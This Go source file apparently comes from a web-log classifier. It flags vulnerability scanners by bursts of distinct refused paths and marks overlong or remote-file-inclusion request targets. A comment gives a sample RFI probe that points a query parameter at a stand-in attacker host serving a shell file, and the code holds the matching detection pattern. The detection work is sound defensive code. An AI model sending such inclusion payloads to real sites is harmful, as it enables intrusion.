package classify

import (
	"bytes"
	"fmt"
	"time"
)

// ProbingConfig is the behavioural scanner detector: an address whose
// requests collect more than Paths distinct error paths (400, 403, 404,
// 405, 410) within Window is scanning, even when no path is on any list
// (fuzzers, Nikto's remote-file-inclusion probes). Static assets (images,
// style sheets, scripts, fonts) do not count: a page with broken images is
// not a scan. The window is a fixed bin of Window seconds; the distinct
// paths in it are kept as 32-bit hashes, at most Paths of them, so the
// state per address is bounded.
type ProbingConfig struct {
	Name     string   `yaml:"name,omitempty"`  // rule name of its events; default "error-path-burst"
	Paths    int      `yaml:"paths,omitempty"` // default 20
	Window   Duration `yaml:"window,omitempty"`
	Disabled *bool    `yaml:"disabled,omitempty"`
}

type cProbing struct {
	enabled bool
	name    string
	paths   int
	window  int64
}

func (c *compiler) compileProbing() error {
	p := c.set.Probing
	cp := cProbing{enabled: p.Disabled == nil || !*p.Disabled, name: p.Name, paths: p.Paths, window: int64(time.Duration(p.Window) / time.Second)}
	if cp.name == "" {
		cp.name = "error-path-burst"
	}
	if cp.paths == 0 {
		cp.paths = 20
	}
	if cp.window == 0 {
		cp.window = 60
	}
	if cp.paths < 2 || cp.paths > 1000 || cp.window < 1 {
		return fmt.Errorf("classify: probing: paths must be within 2…1000 and window at least 1s")
	}
	c.rs.probing = cp
	return nil
}

// errState is one address's bin of distinct error paths.
type errState struct {
	bin     int64
	hashes  []uint32
	legit   int // legit events in the bin that counted (moved on tripping)
	tripped bool
}

// probing applies the behavioural scanner detector to a refused request:
// once the address tripped it, the request is vuln_scanner.
func (c *Classifier) probing(st *ipState, v *verdict, ev *Event) {
	cp := &c.rules.probing
	if !cp.enabled || v.errPath == 0 || ev.Category >= VulnScanner || ev.Category == GoodBot {
		return
	}
	m := st.needMore()
	es := m.errs
	if es == nil {
		es = &errState{bin: -1 << 62}
		m.errs = es
	}
	if es.tripped {
		ev.Category, ev.Rule = VulnScanner, cp.name
		v.window = -1
		return
	}
	bin := floorDiv(v.time.Unix(), cp.window)
	if bin != es.bin {
		es.bin, es.hashes, es.legit = bin, es.hashes[:0], 0
	}
	for _, h := range es.hashes {
		if h == v.errPath {
			if ev.Category == Legit && v.window < 0 {
				es.legit++
			}
			return
		}
	}
	es.hashes = append(es.hashes, v.errPath)
	if len(es.hashes) < cp.paths {
		if ev.Category == Legit && v.window < 0 {
			es.legit++
		}
		return
	}
	// The errors before the threshold were the same scan: the address's
	// counts move (the events already written stay as they were).
	es.tripped, es.hashes = true, nil
	c.recount(st, Legit, VulnScanner, es.legit)
	ev.Category, ev.Rule = VulnScanner, cp.name
	v.window = -1
}

// recount moves up to n of an address's events from one category to
// another: a behaviour recognised only after its first lines were counted.
func (c *Classifier) recount(st *ipState, from, to Category, n int) {
	n = min(n, int(st.actor.Counts[from]))
	if n <= 0 {
		return
	}
	c.uncount(st, from, n)
	st.actor.addCount(to, n)
	st.actor.Events += n
	c.events[to] += int64(n)
	if to > st.actor.Category {
		st.actor.Category = to
	}
}

// uncount takes n events of a category out of an address's counts (they
// were emitted again under another).
func (c *Classifier) uncount(st *ipState, cat Category, n int) {
	n = min(n, int(st.actor.Counts[cat]))
	st.actor.Counts[cat] -= uint32(n)
	st.actor.Events -= n
	c.events[cat] -= int64(n)
}

func floorDiv(t, w int64) int64 {
	b := t / w
	if t < 0 && t%w != 0 {
		b--
	}
	return b
}

// staticSuffixes are assets whose absence is a broken page, not a probe.
var staticSuffixes = [][]byte{
	[]byte(".png"), []byte(".jpg"), []byte(".jpeg"), []byte(".gif"), []byte(".webp"), []byte(".svg"),
	[]byte(".ico"), []byte(".css"), []byte(".js"), []byte(".map"), []byte(".woff"), []byte(".woff2"),
	[]byte(".ttf"), []byte(".eot"), []byte(".mp4"), []byte(".avif"),
}

// targetInfo is what a verdict and the rules take from a request target
// alone. It is worked out once per distinct target and kept beside the
// target's automaton hits (see hitCache): a log has few distinct targets.
type targetInfo struct {
	// errPath is the hash of the path (without the query), lower-cased,
	// for a path that is not a static asset; 0 for one that is.
	errPath uint32
	// pathHash and queryHash hash the path and the query of a target
	// with a query; both are 0 without one.
	pathHash, queryHash uint32
	shapes              uint8 // every target shape the target has
}

func targetInfoOf(t []byte) targetInfo {
	var ti targetInfo
	path := t
	if q := bytes.IndexByte(t, '?'); q >= 0 {
		path = t[:q]
		if q+1 < len(t) {
			ti.pathHash, ti.queryHash = fnv32(t[:q]), fnv32(t[q+1:])
		}
	}
	ti.errPath = pathErrHash(path)
	ti.shapes = targetShapes(t, 1<<numShapes-1)
	return ti
}

// errPathHash is the hash of a request's path (without the query) when
// the site refused it (400, 403, 404, 405, 410) and it is not a static
// asset; 0 otherwise. ti is the request target's.
func errPathHash(status int, ti *targetInfo) uint32 {
	switch status {
	case 400, 403, 404, 405, 410:
		return ti.errPath
	}
	return 0
}

// pathErrHash is errPathHash's hash of a path, 0 for a static asset's.
func pathErrHash(path []byte) uint32 {
	for _, s := range staticSuffixes {
		if len(path) >= len(s) && bytes.EqualFold(path[len(path)-len(s):], s) {
			return 0
		}
	}
	h := uint32(2166136261)
	for _, ch := range path {
		h = (h ^ uint32(lower(ch))) * 16777619
	}
	return h | 1
}

// Target shapes, as rules name them in match.target_shape.
const (
	shapeRFI = iota
	shapeOverlong
	numShapes
)

var shapeNames = [numShapes]string{"rfi", "overlong"}

// targetShapes returns which of the shapes in want (a bit set) a raw
// request target has. Only those asked for are tested: the length test is
// free, the remote-inclusion test scans the query.
func targetShapes(t []byte, want uint8) uint8 {
	var m uint8
	if want&(1<<shapeOverlong) != 0 && len(t) >= 1024 {
		m |= 1 << shapeOverlong
	}
	if want&(1<<shapeRFI) != 0 && isRFI(t) {
		m |= 1 << shapeRFI
	}
	return m
}

// isRFI reports whether a query parameter's value is a URL that ends in
// "?" (or "%3F"), which cuts off what the script appends: a remote file
// inclusion, ?page=http://evil.example/shell.txt?.
func isRFI(t []byte) bool {
	q := bytes.IndexByte(t, '?')
	if q < 0 || bytes.IndexByte(t[q+1:], '=') < 0 {
		return false
	}
	for rest := t[q+1:]; len(rest) > 0; {
		param := rest
		if a := bytes.IndexByte(rest, '&'); a >= 0 {
			param, rest = rest[:a], rest[a+1:]
		} else {
			rest = nil
		}
		eq := bytes.IndexByte(param, '=')
		if eq < 0 {
			continue
		}
		v := param[eq+1:]
		if !hasPrefixFold(v, "http://") && !hasPrefixFold(v, "https://") && !hasPrefixFold(v, "ftp://") &&
			!hasPrefixFold(v, "http%3a%2f%2f") && !hasPrefixFold(v, "https%3a%2f%2f") {
			continue
		}
		if bytes.IndexByte(v[6:], '?') >= 0 || len(v) > 3 && bytes.EqualFold(v[len(v)-3:], []byte("%3f")) {
			return true
		}
	}
	return false
}
